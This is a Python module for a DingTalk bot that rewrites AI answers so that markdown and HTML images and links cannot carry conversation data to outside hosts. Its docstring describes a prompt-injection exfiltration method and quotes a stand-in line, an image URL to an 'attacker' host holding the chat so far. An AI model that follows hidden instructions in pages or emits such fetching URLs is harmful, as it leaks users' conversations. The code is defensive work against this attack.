"""What an answer may show in DingTalk: pictures and links that give nothing of the conversation away.

A model that obeys an instruction hidden in a page or a document writes
``![](https://attacker/?q=<the chat so far>)``, and DingTalk's client fetches the picture by itself,
sending the data with it. DingTalk documents inline links ``[text](url)`` and pictures ``![alt](url)``
for robot markdown messages, its clients render some HTML there (``<font color>``), and AI cards render
a fuller markdown; whether reference-style forms or HTML ``<img>``/``<a>`` render is documented nowhere,
so every form is treated as rendered:

- pictures: inline ``![alt](url "title")``, reference ``![alt][label]``, ``![alt][]`` and ``![label]``
  with a ``[label]: url`` definition, and any HTML tag that fetches (``<img src>``, ``srcset``,
  ``<image href>``, ``<video poster>``, ``<iframe src>``…), also one cut off at the end of a stream or
  broken by another ``<`` (its ``<`` is then shown as the full-width ``＜``);
- links: inline ``[text](url)``, reference, autolinks ``<https://…>``, ``<a href>`` and bare URLs.

A picture is shown only when its URL is one the bot made (a drawn picture, its own signed bucket URL)
or its host is in ``ANSWER_IMAGE_HOSTS``; any other becomes its alt text. A link is kept when its URL
gives nothing away (``provenance.py``); otherwise its text stays and the address follows as inline
code, which is shown, not linked. Code blocks get the same treatment: DingTalk's phone clients show
message markdown without code blocks, so a picture "inside code" can still render there.
"""

from __future__ import annotations

import re
from typing import Callable, Collection, Dict, Optional, Sequence
from urllib.parse import urlsplit

from shared.reply.provenance import Provenance

_TEXT = r"(?:[^\[\]\n]|\[[^\[\]\n]*\])*"
_DEST = r"(?:<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)"
_TITLE = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
DEFINITION = re.compile(r"^ {0,3}\[([^\[\]\n]+)\]:[ \t]*(<[^<>\n]*>|\S+)" + _TITLE + r"[ \t]*$", re.M)
TOKEN = re.compile(
    r"(?P<autolink><(?P<auto_url>(?:https?|ftp)://[^\s<>]*)>)"
    r"|(?P<anchor><a\b(?P<anchor_attrs>[^<>]*)>(?P<anchor_text>.*?)</a\s*>)"
    r"|(?P<tag><(?P<tag_name>[a-zA-Z][\w:-]*)(?P<attrs>(?:\s[^<>]*)?)(?:>|$))"
    r"|(?P<broken><(?=(?:img|image|video|audio|source|iframe|frame|embed|object|picture|svg|input|link|script)\b))"
    rf"|(?P<image>!\[(?P<image_alt>{_TEXT})\]\(\s*(?P<image_url>{_DEST}){_TITLE}\s*\))"
    rf"|(?P<image_ref>!\[(?P<ref_alt>{_TEXT})\](?:\[(?P<ref_label>[^\[\]\n]*)\])?)"
    rf"|(?P<link>\[(?P<link_text>{_TEXT})\]\(\s*(?P<link_url>{_DEST}){_TITLE}\s*\))"
    rf"|(?P<link_ref>\[(?P<lref_text>{_TEXT})\](?:\[(?P<lref_label>[^\[\]\n]*)\])?)"
    r"|(?P<bare>\b(?:https?|ftp)://[^\s<>()\[\]\"'`，。、；：！？）】」』]+)",
    re.S,
)
URL_ATTRIBUTE = re.compile(r"""([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""")
FETCHING_ATTRIBUTES = {"src", "srcset", "poster", "background", "data", "lowsrc", "dynsrc", "xlink:href"}
LINK_ATTRIBUTES = {"href", "action", "formaction", "cite"}
FETCHING_TAGS = {"img", "image", "video", "audio", "source", "track", "iframe", "frame", "embed", "object",
                 "picture", "svg", "use", "input", "link", "script", "body", "table", "td", "feimage"}


def _label(text: str) -> str:
    return " ".join(text.lower().split())


def _unwrap(url: str) -> str:
    url = url.strip()
    return url[1:-1] if url.startswith("<") and url.endswith(">") else url


def _shown_address(text: str, url: str) -> str:
    """A link that may not be a link: its text, and the address as inline code (seen, not clickable)."""
    fence = "``" if "`" in url else "`"
    address = f"{fence}{url}{fence}"
    return address if not text.strip() or text.strip() == url else f"{text}（{address}）"


def _with_group(match: re.Match, group: str, text: str) -> str:
    """The match with one group's text replaced, in place (the same words may come earlier, in an attribute)."""
    start, end = match.span(group)
    whole = match.group(0)
    return whole[:start - match.start()] + text + whole[end - match.start():]


class AnswerGuard:
    """Rewrites an answer's markdown so that what DingTalk renders fetches nothing and links nothing that
    carries the conversation. ``bot_images`` is read at each call: drawn pictures appear while the answer
    streams."""

    def __init__(self, provenance: Provenance, bot_images: Callable[[], Collection[str]] = tuple,
                 image_hosts: Sequence[str] = ()) -> None:
        self.provenance = provenance
        self.bot_images = bot_images
        self.image_hosts = {host.lower() for host in image_hosts}

    def image_allowed(self, url: str) -> bool:
        url = _unwrap(url)
        if url in self.bot_images():
            return True
        try:
            host = (urlsplit(url).hostname or "").lower()
        except ValueError:
            return False
        return bool(host) and host in self.image_hosts and urlsplit(url).scheme in ("http", "https")

    def link_allowed(self, url: str) -> bool:
        return self.provenance.may_leave(_unwrap(url))

    def __call__(self, text: str) -> str:
        defined: Dict[str, str] = {}
        for found in DEFINITION.finditer(text):
            defined.setdefault(_label(found.group(1)), _unwrap(found.group(2)))
        # A definition renders nothing itself; one that may not be linked goes, and its references show the address.
        text = DEFINITION.sub(lambda m: m.group(0) if self.link_allowed(_unwrap(m.group(2))) else "", text)
        return TOKEN.sub(lambda match: self._token(match, defined), text)

    def _token(self, match: re.Match, definitions: Dict[str, str]) -> str:
        kind = match.lastgroup  # the outer group of the alternative that matched closes last
        whole = match.group(0)
        if kind == "autolink":
            url = match.group("auto_url")
            return whole if self.link_allowed(url) else _shown_address("", url)
        if kind == "anchor":
            inner = self(match.group("anchor_text"))
            href = {a.lower(): v.strip("'\"") for a, v in URL_ATTRIBUTE.findall(match.group("anchor_attrs"))}
            url = href.get("href", "")
            if url and not self.link_allowed(url):
                return _shown_address(inner, url)
            return _with_group(match, "anchor_text", inner)
        if kind == "tag":
            return self._tag(match.group("tag_name"), match.group("attrs") or "", whole)
        if kind == "broken":
            return "＜"  # a fetching tag no parser here can read whole: shown as text, never as HTML
        if kind == "image":
            url = match.group("image_url")
            return whole if self.image_allowed(url) else self(match.group("image_alt"))
        if kind == "image_ref":
            url = self._reference(match.group("ref_label"), match.group("ref_alt"), definitions)
            if url is None or self.image_allowed(url):
                return whole
            return self(match.group("ref_alt"))
        if kind == "link":
            url, inner = match.group("link_url"), self(match.group("link_text"))
            if self.link_allowed(url):
                return f"[{inner}]({url})"
            return _shown_address("" if match.group("link_text").strip() == _unwrap(url) else inner, _unwrap(url))
        if kind == "link_ref":
            url = self._reference(match.group("lref_label"), match.group("lref_text"), definitions)
            inner = self(match.group("lref_text"))
            if url is None or self.link_allowed(url):
                return _with_group(match, "lref_text", inner)
            return _shown_address(inner, url)
        url = whole.rstrip(".,;:!?")
        return whole if self.link_allowed(url) else _shown_address("", url) + whole[len(url):]

    @staticmethod
    def _reference(label: Optional[str], text: str, definitions: Dict[str, str]) -> Optional[str]:
        """The URL a reference points at (``[text][label]``, ``[text][]`` or ``[text]``), None when undefined."""
        return definitions.get(_label(label if label else text))

    def _tag(self, name: str, attributes: str, whole: str) -> str:
        """An HTML tag whose URLs may not leave is dropped; a picture's alt (or title) text stays."""
        name = name.lower()
        for attribute, value in URL_ATTRIBUTE.findall(attributes):
            attribute, value = attribute.lower(), value.strip("'\"")
            urls = [v.strip().split(" ")[0] for v in value.split(",")] if attribute == "srcset" else [value]
            fetches = attribute in FETCHING_ATTRIBUTES or (attribute == "href" and name in FETCHING_TAGS)
            if fetches and not all(self.image_allowed(url) for url in urls):
                return self._alt(attributes)
            if attribute in LINK_ATTRIBUTES and not fetches and not self.link_allowed(value):
                return _shown_address("", value)
        return whole

    @staticmethod
    def _alt(attributes: str) -> str:
        found = {a.lower(): v.strip("'\"") for a, v in URL_ATTRIBUTE.findall(attributes)}
        return found.get("alt") or found.get("title") or ""
